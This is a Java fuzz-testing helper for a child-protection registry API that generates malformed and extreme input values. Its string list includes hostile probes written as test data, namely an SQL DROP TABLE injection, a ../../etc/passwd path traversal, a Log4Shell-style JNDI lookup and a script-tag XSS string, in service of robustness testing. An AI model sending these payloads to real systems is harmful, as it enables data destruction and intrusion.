package org.childprotection.registry.api.fuzz;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;

import java.math.BigDecimal;
import java.math.BigInteger;

/** Values a client should not send: odd strings, extreme numbers, wrong types, deep nesting. */
final class OddValues {

    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    private OddValues() {
    }

    static Arbitrary<String> strings() {
        return Arbitraries.oneOf(
                Arbitraries.strings().all().ofMaxLength(40),
                Arbitraries.strings().withCharRange('\u0000', '\u001f').ofMinLength(1).ofMaxLength(8),
                Arbitraries.strings().withCharRange('\u4e00', '\u9fff').ofMinLength(1).ofMaxLength(30),
                Arbitraries.of("", " ", "null", "NaN", "-1", "0", "1e309", "true",
                        "2026-02-30", "2026-02-29", "9999-12-31", "+999999999-12-31", "-999999999-01-01",
                        "0000-00-00", "1900-01-01", "2099-01-01", "2026-13-01T00:00:00Z", "+1000000-01-01T00:00:00Z",
                        "-1000000000-01-01T00:00:00Z", "2026-03-01T00:00:00+25:00", "P1D",
                        "\u202e\u0645\u0631\u062d\u0628\u0627", "\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67",
                        "\ud800", "\udfff", "\u0000", "a\u0000b", "\ufeff", "\ufffd\ufffe\uffff",
                        "'; DROP TABLE domain_event_entry; --", "../../etc/passwd", "%00", "${jndi:ldap://x/a}",
                        "<script>alert(1)</script>", "110101001001", "110101", "11010100100", "1101010010011",
                        "110101201605010016", "11010120160501001X", "GREEN", "RED", "li.caseworker", "*", "%"),
                Arbitraries.integers().between(100, 70_000).map("长"::repeat));
    }

    static Arbitrary<JsonNode> values() {
        return Arbitraries.lazyOf(
                () -> strings().map(NODES::textNode),
                () -> Arbitraries.of(Long.MIN_VALUE, Long.MAX_VALUE, -1L, 0L, 1L, 255L, 65_536L,
                        Integer.MAX_VALUE + 1L, Integer.MIN_VALUE - 1L).map(NODES::numberNode),
                () -> Arbitraries.integers().map(NODES::numberNode),
                () -> Arbitraries.bigIntegers().between(BigInteger.TEN.pow(40).negate(), BigInteger.TEN.pow(40))
                        .map(NODES::numberNode),
                () -> Arbitraries.of(new BigDecimal("1e400"), new BigDecimal("-1e-400"), new BigDecimal("3.5"),
                        new BigDecimal("-0.0")).map(NODES::numberNode),
                () -> Arbitraries.of(true, false).map(NODES::booleanNode),
                () -> Arbitraries.just(NODES.nullNode()),
                () -> Arbitraries.just(NODES.objectNode()),
                () -> Arbitraries.just(NODES.arrayNode()),
                () -> strings().list().ofMaxSize(5).map(list -> {
                    ArrayNode array = NODES.arrayNode();
                    list.forEach(array::add);
                    return array;
                }),
                () -> Arbitraries.integers().between(1, 900).map(OddValues::nested));
    }

    /** An array nested {@code depth} deep. */
    static JsonNode nested(int depth) {
        JsonNode node = NODES.textNode("deep");
        for (int i = 0; i < depth; i++) {
            node = NODES.arrayNode().add(node);
        }
        return node;
    }
}
